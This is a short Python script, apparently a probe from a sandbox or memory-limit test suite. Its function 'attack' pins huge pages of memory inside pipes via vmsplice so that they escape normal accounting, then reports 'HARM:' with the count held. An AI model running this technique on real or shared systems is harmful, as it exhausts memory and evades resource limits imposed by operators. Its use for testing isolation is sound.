"""Holds memory in pages given to pipes and unmapped here (vmsplice), and in what was written and is never read."""

import contextlib
import ctypes
import mmap
import os
import time

HUGE = 2**21
SPLICE_F_NONBLOCK, MADV_HUGEPAGE = 2, 14


class Piece(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def attack(target: dict[str, str]) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    given = 0
    for _ in range(25):
        pipe = os.pipe()
        for _ in range(16):
            space = mmap.mmap(-1, 2 * HUGE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
            with contextlib.suppress(OSError):
                space.madvise(MADV_HUGEPAGE)
            start = ctypes.addressof(ctypes.c_char.from_buffer(space))
            place = -(-start // HUGE) * HUGE
            ctypes.memset(place, 1, HUGE)
            given += libc.vmsplice(pipe[1], ctypes.byref(Piece(place, 1)), 1, SPLICE_F_NONBLOCK) > 0
    time.sleep(1)
    if given:
        print("HARM: pipes hold", given, "pages of 2 MiB at most")
